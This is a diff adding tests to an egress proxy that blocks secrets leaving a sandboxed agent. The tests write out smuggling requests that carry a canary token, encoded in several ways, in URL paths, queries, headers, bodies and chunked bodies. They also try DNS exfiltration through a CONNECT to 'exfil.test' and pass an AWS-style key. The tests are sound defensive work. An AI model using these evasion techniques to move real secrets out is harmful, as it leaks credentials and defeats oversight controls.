@@ -58,14 +58,18 @@ type Log = Arc<Mutex<Vec<Event>>>;
 
 /// Starts a proxy on 127.0.0.1 with `allow`, collecting its decisions.
 async fn proxy(allow: &str) -> (SocketAddr, Log) {
-    let allow = Allowlist::parse(allow).unwrap();
+    proxy_with(Config::new(Allowlist::parse(allow).unwrap())).await
+}
+
+/// Starts a proxy on 127.0.0.1 with `config`, collecting its log.
+async fn proxy_with(config: Config) -> (SocketAddr, Log) {
     let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let addr = listener.local_addr().unwrap();
     let log: Log = Arc::default();
     let sink = log.clone();
     tokio::spawn(egress::serve_with_log(
         listener,
-        Config::new(allow),
+        config,
         Arc::new(move |e| sink.lock().unwrap().push(e)),
     ));
     (addr, log)
@@ -446,4 +450,169 @@ async fn an_allowed_but_unreachable_upstream_is_a_502() {
         (got[0].verdict, got[0].status),
         (Some(Verdict::Allowed), Some(502))
     );
+}
+
+/// The value of the secret the smuggling cases try to carry out.
+const CANARY: &str = "canary-Zq8wX3vR7pL2";
+
+fn encodings(value: &str) -> Vec<(&'static str, String)> {
+    const B64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    let b64 = |bytes: &[u8]| -> String {
+        let mut out = String::new();
+        for chunk in bytes.chunks(3) {
+            let b = [
+                chunk[0],
+                *chunk.get(1).unwrap_or(&0),
+                *chunk.get(2).unwrap_or(&0),
+            ];
+            let n = u32::from(b[0]) << 16 | u32::from(b[1]) << 8 | u32::from(b[2]);
+            for i in 0..4 {
+                out.push(if i <= chunk.len() {
+                    B64[(n >> (18 - 6 * i) & 63) as usize] as char
+                } else {
+                    '='
+                });
+            }
+        }
+        out
+    };
+    vec![
+        ("raw", value.to_string()),
+        (
+            "URL-encoded",
+            value.bytes().map(|b| format!("%{b:02x}")).collect(),
+        ),
+        ("hex", value.bytes().map(|b| format!("{b:02X}")).collect()),
+        ("base64", b64(format!("user:{value}").as_bytes())),
+        (
+            "base64url",
+            b64(format!("ab{value}").as_bytes())
+                .replace('+', "-")
+                .replace('/', "_"),
+        ),
+    ]
+}
+
+/// A request that carries the bottle's secret (or a near miss of it) in each place and
+/// encoding: refused with 403 and nothing reaching the upstream; the near miss goes through.
+#[tokio::test]
+async fn a_request_carrying_a_secret_is_refused_before_it_leaves() {
+    let upstream = Upstream::start().await;
+    let up = upstream.port;
+    let allow = format!("127.0.0.1:{up}, *.exfil.test");
+    let mut config = Config::new(Allowlist::parse(&allow).unwrap());
+    config.scanner = bottle_sidecars::leak::Scanner::new([("API_TOKEN", CANARY)]);
+    let (addr, log) = proxy_with(config).await;
+    let mut near = CANARY.to_string();
+    near.replace_range(8..9, "Y");
+    for (value, refused) in [(CANARY, true), (near.as_str(), false)] {
+        for (encoding, text) in encodings(value) {
+            let get = |path: &str, extra: &str, body: &str| {
+                format!(
+                    "POST http://127.0.0.1:{up}{path} HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n{extra}\
+                     Content-Length: {}\r\n\r\n{body}",
+                    body.len()
+                )
+            };
+            let chunked = {
+                let (a, b) = text.split_at(text.len() / 2);
+                format!(
+                    "POST http://127.0.0.1:{up}/c HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\
+                     Transfer-Encoding: chunked\r\n\r\n{:x}\r\n{a}\r\n{:x}\r\n{b}\r\n0\r\n\r\n",
+                    a.len(),
+                    b.len()
+                )
+            };
+            let cases = [
+                ("path", get(&format!("/p/{text}"), "", "")),
+                ("query", get(&format!("/q?k={text}"), "", "")),
+                ("header", get("/h", &format!("X-Note: {text}\r\n"), "")),
+                ("body", get("/b", "", &format!("data={text}&x=1"))),
+                ("chunked body", chunked),
+            ];
+            for (place, request) in cases {
+                let before = upstream.hits();
+                let (status, body) = send(addr, request.as_bytes(), up).await;
+                let what = format!("{encoding} value in the {place} (refused: {refused})");
+                if refused {
+                    assert_eq!(status, 403, "{what}: {body}");
+                    assert!(body.contains("API_TOKEN"), "{what}: {body}");
+                    assert!(
+                        !body.contains(CANARY),
+                        "{what}: the refusal shows the value"
+                    );
+                    assert_eq!(upstream.hits(), before, "{what}: the upstream was reached");
+                } else {
+                    assert_eq!(status, 200, "{what}: {body}");
+                }
+            }
+        }
+    }
+    // A CONNECT whose target carries the secret (DNS exfiltration under a wildcard) is refused
+    // before any lookup.
+    let connect = format!(
+        "CONNECT {CANARY}.exfil.test:443 HTTP/1.1\r\nHost: {CANARY}.exfil.test:443\r\n\r\n"
+    );
+    let (status, body) = send(addr, connect.as_bytes(), up).await;
+    assert_eq!(status, 403, "{body}");
+    assert!(body.contains("in the target"), "{body}");
+    let lines = log.lock().unwrap().clone();
+    let denied: Vec<&Event> = lines
+        .iter()
+        .filter(|e| e.verdict == Some(Verdict::Denied))
+        .collect();
+    assert_eq!(denied.len(), 26, "one denial per smuggling attempt");
+    for e in denied {
+        let line = e.to_json(0);
+        assert!(line.contains("secret API_TOKEN"), "{line}");
+        let lower = line.to_ascii_lowercase();
+        assert!(
+            !lower.contains(&CANARY.to_ascii_lowercase()),
+            "the log shows the value: {line}"
+        );
+    }
+}
+
+#[tokio::test]
+async fn a_well_known_credential_format_is_refused() {
+    let upstream = Upstream::start().await;
+    let up = upstream.port;
+    let (addr, _) = proxy(&format!("127.0.0.1:{up}")).await;
+    let key = "AKIAZ7Q2X4W5V6B7N8M9";
+    let req =
+        format!("GET http://127.0.0.1:{up}/?id={key} HTTP/1.1\r\nHost: 127.0.0.1:{up}\r\n\r\n");
+    let (status, body) = send(addr, req.as_bytes(), up).await;
+    assert_eq!(status, 403, "{body}");
+    assert!(body.contains("aws-access-key-id"), "{body}");
+    assert_eq!(upstream.hits(), 0);
+}
+
+/// Whatever the agent puts a secret in, the log withholds it: a refused target, a Host header,
+/// a malformed port, all quoted in reasons.
+#[tokio::test]
+async fn the_log_never_holds_a_secret_the_agent_sent() {
+    let upstream = Upstream::start().await;
+    let up = upstream.port;
+    let mut config = Config::new(Allowlist::parse(&format!("127.0.0.1:{up}")).unwrap());
+    config.scanner = bottle_sidecars::leak::Scanner::new([("API_TOKEN", CANARY)]);
+    let (addr, log) = proxy_with(config).await;
+    let lower = CANARY.to_ascii_lowercase();
+    for request in [
+        format!(
+            "CONNECT {CANARY}.denied.test:443 HTTP/1.1\r\nHost: {CANARY}.denied.test:443\r\n\r\n"
+        ),
+        format!("CONNECT {lower}.denied.test:99999 HTTP/1.1\r\nHost: x\r\n\r\n"),
+        format!("GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: {CANARY}.test\r\n\r\n"),
+        format!("GET http://127.0.0.1:{up}/ HTTP/1.1\r\nHost: {CANARY}\x01\r\n\r\n"),
+    ] {
+        let (status, _) = send(addr, request.as_bytes(), up).await;
+        assert!((400..500).contains(&status), "{request:?}: {status}");
+    }
+    assert_eq!(upstream.hits(), 0);
+    let lines = log.lock().unwrap().clone();
+    assert!(lines.len() >= 3, "{lines:?}");
+    for e in lines {
+        let line = e.to_json(0).to_ascii_lowercase();
+        assert!(!line.contains(&lower), "the log shows the value: {line}");
+    }
 }
